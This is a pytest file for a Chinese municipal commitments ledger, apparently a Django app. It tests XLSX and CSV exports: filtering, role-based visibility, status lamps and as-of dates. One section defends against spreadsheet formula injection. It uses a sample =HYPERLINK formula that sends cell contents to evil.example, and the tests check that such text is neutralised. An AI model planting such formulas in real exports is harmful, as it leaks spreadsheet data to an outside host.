"""Export of the current ledger view to XLSX and CSV: same filters, same visibility,
the same figures as the screen."""

from __future__ import annotations

import csv
import datetime as dt
import io
from urllib.parse import unquote

import pytest
import time_machine
from openpyxl import load_workbook

from commitments.models import Commitment
from commitments.rules import LAMPS, Rag
from commitments.selectors.exports import COLUMNS
from tests.support.webutil import make_cast, record

DAY = dt.datetime(2017, 9, 30, 12, tzinfo=dt.timezone(dt.timedelta(hours=8)))
HEAD = [h for h, _ in COLUMNS]


@pytest.fixture
def cast(anyang):
    with time_machine.travel(DAY, tick=False):
        yield make_cast(anyang)


def sheet(response):
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return load_workbook(io.BytesIO(response.content)).active


def test_xlsx_of_a_filtered_view(cast):
    record(cast.mine, cast.reporter, as_of=dt.date(2017, 9, 20), status="completed", percent=None)
    response = cast.client("supervisor").get(
        "/ledger/export.xlsx", {"kind": "practical_matter", "sort": "code"}
    )
    assert response.status_code == 200
    ws = sheet(response)
    assert "2017年安阳市政府工作报告" in ws["A1"].value and "2017-09-30" in ws["A1"].value
    assert [c.value for c in ws[2]] == HEAD
    rows = list(ws.iter_rows(min_row=3, values_only=True))
    assert len(rows) == 10
    first = dict(zip(HEAD, rows[0], strict=True))
    assert first["编号"] == cast.mine.code
    assert first["任务原文"] == cast.mine.text
    assert first["牵头单位"] == "市测试住建局"
    assert first["完成百分比"] == 100
    assert first["红黄绿灯"] == "申报完成·待审核"  # not reviewed: never counted as done
    assert first["填报状态"] == "已完成"
    assert "118" in first["目标"]
    assert ws.cell(row=3, column=HEAD.index("红黄绿灯") + 1).fill.fgColor.rgb.endswith(
        LAMPS[Rag.CLAIMED].xlsx_fill
    )
    second = dict(zip(HEAD, rows[1], strict=True))
    assert second["配合单位"] == "市测试住建局"


def test_export_follows_the_rag_filter_and_sort(cast):
    Commitment.objects.filter(pk__in=[cast.mine.pk, cast.theirs.pk]).update(
        due_date=dt.date(2017, 6, 30)
    )
    ws = sheet(cast.client("supervisor").get("/ledger/export.xlsx", {"rag": "red", "sort": "code"}))
    codes = [r[0] for r in ws.iter_rows(min_row=3, values_only=True)]
    assert set(codes) == {cast.mine.code, cast.theirs.code}


def test_reporter_exports_only_their_items(cast):
    ws = sheet(cast.client("reporter").get("/ledger/export.xlsx"))
    codes = {r[0] for r in ws.iter_rows(min_row=3, values_only=True)}
    assert codes == {cast.mine.code, cast.shared.code}


def test_csv_with_bom_for_excel(cast):
    response = cast.client("supervisor").get("/ledger/export.csv", {"q": "118条"})
    assert response["Content-Type"].startswith("text/csv")
    assert response.content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == HEAD
    assert len(rows) == 2 and rows[1][0] == cast.mine.code
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert "台账-安阳市2017-20170930.csv" in unquote(disposition)


def test_export_as_of_a_past_day(cast):
    record(
        cast.mine,
        cast.reporter,
        as_of=dt.date(2017, 9, 20),
        status="completed",
        percent=None,
        created_at=dt.datetime(2017, 9, 20, 10, tzinfo=dt.timezone(dt.timedelta(hours=8))),
    )
    ws = sheet(
        cast.client("supervisor").get("/ledger/export.xlsx", {"q": "118条", "as_of": "2017-09-01"})
    )
    row = dict(zip(HEAD, next(ws.iter_rows(min_row=3, values_only=True)), strict=True))
    assert row["填报状态"] == "—" and row["红黄绿灯"] != "已完成"
    assert "2017-09-01" in ws["A1"].value


# --- formula injection: text that starts like a formula is exported as text ---------------

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点此")'


@pytest.fixture
def evil(cast):
    Commitment.objects.filter(pk=cast.mine.pk).update(responsible_person=EVIL)
    Commitment.objects.filter(pk=cast.shared.pk).update(responsible_person="@SUM(1+1)\x01")
    return cast


def _row(ws, code: str) -> list:
    return next([c for c in row] for row in ws.iter_rows(min_row=3) if row[0].value == code)


def test_xlsx_keeps_formula_like_text_as_text_and_numbers_as_numbers(evil):
    record(evil.mine, evil.reporter, as_of=dt.date(2017, 9, 20), percent="40")
    response = evil.client("supervisor").get("/ledger/export.xlsx")
    ws = sheet(response)
    cells = _row(ws, evil.mine.code)
    person = cells[HEAD.index("责任人")]
    assert person.value == EVIL and person.data_type == "s"  # shown, never run
    percent = cells[HEAD.index("完成百分比")]
    assert percent.data_type == "n" and percent.value == 40
    shared = _row(ws, evil.shared.code)[HEAD.index("责任人")]
    assert shared.value == "@SUM(1+1)"  # the control character dropped, not a 500
    # No formula anywhere in the sheet.
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


def test_csv_prefixes_formula_like_text_with_an_apostrophe(evil):
    record(evil.mine, evil.reporter, as_of=dt.date(2017, 9, 20), percent="40")
    body = evil.client("supervisor").get("/ledger/export.csv").content.decode("utf-8-sig")
    rows = {r[0]: r for r in csv.reader(io.StringIO(body))}
    assert rows[evil.mine.code][HEAD.index("责任人")] == "'" + EVIL
    assert rows[evil.shared.code][HEAD.index("责任人")] == "'@SUM(1+1)\x01"
    assert rows[evil.mine.code][HEAD.index("完成百分比")] == "40.0"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised_in_csv(start):
    from commitments.selectors.exports import spreadsheet_text

    assert spreadsheet_text(f"{start}1+1") == f"'{start}1+1"
    assert spreadsheet_text("张三") == "张三"


def test_the_summary_attachment_keeps_formula_like_text_as_text(evil):
    from commitments.jobs.models import Summary
    from commitments.jobs.summaries import summary_build, summary_request

    with time_machine.travel(DAY, tick=False):
        s = summary_request(kind="weekly", report=evil.report, day=dt.date(2017, 9, 25))
        summary_build(s.pk)
    s = Summary.objects.get(pk=s.pk)
    assert s.xlsx is not None
    ws = load_workbook(io.BytesIO(bytes(s.xlsx))).active
    assert ws is not None
    person = _row(ws, evil.mine.code)[HEAD.index("责任人")]
    assert person.value == EVIL and person.data_type == "s"


def test_admin_export_neutralises_formula_like_text(evil):
    from import_export.formats.base_formats import CSV, XLSX

    from commitments.admin import CommitmentResource

    dataset = CommitmentResource().export(Commitment.objects.filter(pk=evil.mine.pk))
    assert dataset.dict[0]["responsible_person"] == "'" + EVIL
    ws = load_workbook(io.BytesIO(XLSX().export_data(dataset))).active
    assert ws is not None
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
    assert "'" + EVIL.replace('"', '""') in CSV().export_data(dataset)
